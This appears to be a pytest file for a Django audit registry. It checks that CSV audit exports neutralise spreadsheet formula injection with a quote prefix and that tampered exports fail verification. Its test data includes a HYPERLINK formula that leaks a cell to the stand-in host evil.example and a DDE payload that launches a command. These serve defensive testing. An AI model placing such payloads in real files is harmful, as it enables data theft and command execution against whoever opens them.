"""CSV exports neutralise spreadsheet formulas (OWASP CSV injection): a cell beginning with
= + - @ tab, carriage return (or the quote itself) carries a leading ', on the COPY path and the
Python path alike; the offline verifier undoes exactly that prefix, only for exports that declare
it, so such exports verify, older ones keep verifying, and an edited cell is still caught."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import transaction

from registry.models import AuditEvent
from registry.services.audit import CLI, audit_export_rows, audit_record
from registry.services.tokens import token_create
from registry.verify_export import verify_stream

FORMULAS = [
    "=2+3",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB=1",
    "\rCR=1",
    "'quoted already",
    "''two quotes",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_events(churn, owner):
    with transaction.atomic():
        for text in FORMULAS:
            audit_record(actor=owner, action="t.formula", obj=churn, context=CLI, before={"name": text}, after=-5)
            token_create(user=owner, name=text, scopes=["models:read"], expires_at=None, actor=owner, context=CLI)
    return AuditEvent.objects.count()


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _data_cells(text: str):
    rows = _rows(text)
    assert rows[1] == ["#cell_escape", "formula-quote"]  # right after the header
    for row in rows[2:-1]:
        yield from row


def _verify(text: str):
    return verify_stream(io.StringIO(text, newline=""))


@pytest.mark.parametrize("use_copy", [True, False])
def test_no_csv_cell_begins_with_a_formula_character(formula_events, use_copy):
    text = "".join(audit_export_rows(fmt="csv", use_copy=use_copy))
    cells = list(_data_cells(text))
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    reprs = {row[7] for row in _rows(text)[2:-1]}
    assert any(r.startswith("'=2+3 (") for r in reprs)  # the token's object_repr, neutralised
    assert any(r.startswith("''quoted already (") for r in reprs)  # a leading quote is doubled: undone exactly
    assert any(r.startswith("'''two quotes (") for r in reprs)
    assert "'-5" in cells  # JSON cells too (after = -5)
    manifest = json.loads(_rows(text)[-1][1])
    assert manifest["cell_escape"] == "formula-quote"


@pytest.mark.parametrize("use_copy", [True, False])
def test_a_neutralised_csv_export_verifies(formula_events, use_copy):
    ok, message, summary = _verify("".join(audit_export_rows(fmt="csv", use_copy=use_copy)))
    assert ok, message
    assert summary["count"] == formula_events


def test_the_copy_path_and_the_python_path_write_the_same_neutralised_cells(formula_events):
    head = (formula_events, "h")
    fast = "".join(audit_export_rows(fmt="csv", head=head, exported_at="t", chunk_size=2))
    slow = "".join(audit_export_rows(fmt="csv", head=head, exported_at="t", use_copy=False))
    assert _rows(fast) == _rows(slow)


def test_the_api_export_of_a_token_named_like_a_formula_is_neutralised(owner, auditor, api_client_for):
    with transaction.atomic():
        token_create(user=owner, name="=2+3", scopes=["models:read"], expires_at=None, actor=owner, context=CLI)
    response = api_client_for(auditor).get("/api/v1/audit/export/", {"format": "csv", "action": "token.created"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    reprs = [row[7] for row in _rows(text)[2:-1]]
    assert any(r.startswith("'=2+3") for r in reprs), reprs
    assert not any(r.startswith("=") for r in reprs)
    ok, message, _ = _verify(text)
    assert ok, message


def test_a_formula_written_into_a_neutralised_export_is_refused(formula_events):
    text = "".join(audit_export_rows(fmt="csv", use_copy=False))
    assert "'=2+3" in text
    ok, message, _ = _verify(text.replace("'=2+3", "=2+3", 1))  # the same value, the prefix taken off
    assert not ok
    assert "object_repr" in message and "prefix" in message


def test_an_edited_neutralised_cell_is_still_a_hash_mismatch(formula_events):
    text = "".join(audit_export_rows(fmt="csv", use_copy=False))
    ok, message, _ = _verify(text.replace("'=2+3", "'=2+4", 1))
    assert not ok and "hash mismatch" in message


def test_the_declaration_cannot_be_removed_or_added(formula_events):
    text = "".join(audit_export_rows(fmt="csv", use_copy=False))
    lines = text.split("\n")
    undeclared = "\n".join(lines[:1] + lines[2:])  # the declaration dropped: prefixed cells no longer hash
    assert not _verify(undeclared)[0]
    manifest_cut = text.replace('\\"cell_escape\\":\\"formula-quote\\",', "").replace(
        '""cell_escape"":""formula-quote"",', ""
    )
    assert manifest_cut != text
    ok, message, _ = _verify(manifest_cut)
    assert not ok and "cell_escape" in message


def test_an_older_export_without_the_declaration_keeps_verifying(formula_events):
    """Exports written before the prefix: raw cells, no preamble, no manifest key."""
    text = "".join(audit_export_rows(fmt="csv", use_copy=False))
    rows = _rows(text)
    manifest = json.loads(rows[-1][1])
    del manifest["cell_escape"]
    raw = [[cell[1:] if cell.startswith("'") else cell for cell in row] for row in rows[2:-1]]
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerows([rows[0], *raw, ["#manifest", json.dumps(manifest)]])
    ok, message, summary = _verify(buffer.getvalue())
    assert ok, message
    assert summary["count"] == formula_events


def test_jsonl_exports_are_not_prefixed(formula_events):
    text = "".join(audit_export_rows(fmt="jsonl"))
    assert '"object_repr":"=2+3 (' in text
    assert "cell_escape" not in text
    assert _verify(text)[0]
